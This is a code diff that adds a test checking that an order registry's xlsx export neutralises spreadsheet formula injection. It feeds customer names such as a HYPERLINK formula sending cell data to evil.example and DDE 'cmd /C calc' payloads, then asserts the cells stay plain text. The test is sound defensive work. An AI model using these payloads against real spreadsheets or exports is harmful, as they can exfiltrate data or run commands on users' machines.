@@ -1,4 +1,5 @@
 import { eq, sql } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ALMATY, fixtures, KARAGANDA, userIdOf } from '../../../../test/fixtures.ts';
 import { buildTestApp, TEST_SECRETS, type TestApp } from '../../../../test/helper.ts';
@@ -126,5 +127,50 @@ describe('a quote whose price the server did not compute', () => {
         .where(eq(tariffGrids.carrier, 'JETKIZ'));
       await t.app.calc.load();
     }
+  });
+});
+
+describe('the registry report (xlsx)', () => {
+  it('writes a customer text that a spreadsheet would evaluate as text, also after a CSV export', async () => {
+    const { token } = await user('company');
+    const names = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1,2)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    for (const companyName of names) {
+      const body = orderBody(
+        await call('POST', '/api/calc/protected/jur/calc', token, { from: ALMATY, to: KARAGANDA, packDtos: [packOf(2)] }).then(
+          (r) => r.body.tariffs[0].calculatorId,
+        ),
+        {
+          receiver: { companyName, phone: '+7 (777) 123 45 67', streetAbbrId: 2, street: 'Бухар-Жырау', house: '49' },
+        },
+      );
+      expect((await call('POST', '/api/order/protected/jur/order', token, body)).status).toBe(200);
+    }
+    const report = await call('GET', '/api/order/protected/jur/report?code=F_12&category=slq-order-list', token);
+    expect(report.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(report.raw.rawPayload as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
+    const written: string[] = [];
+    sheet.eachRow((row, n) => {
+      if (n === 1) return;
+      row.eachCell((cell) => {
+        // No cell is a formula: each is a plain value, and no text starts a formula.
+        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[\s]*[=+\-@]/);
+      });
+      written.push(row.getCell(7).value as string);
+    });
+    expect(written.sort()).toEqual(names.map((name) => `'${name.trim()}`).sort()); // names are stored trimmed
+    expect(sheet.getRow(2).getCell(8).value).toBe("'+7 (777) 123 45 67");
+    // Exported to CSV (as a spreadsheet saves it), no field starts a formula either.
+    const csv = (await workbook.csv.writeBuffer()).toString();
+    for (const field of csv.split(/[,\n]/)) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
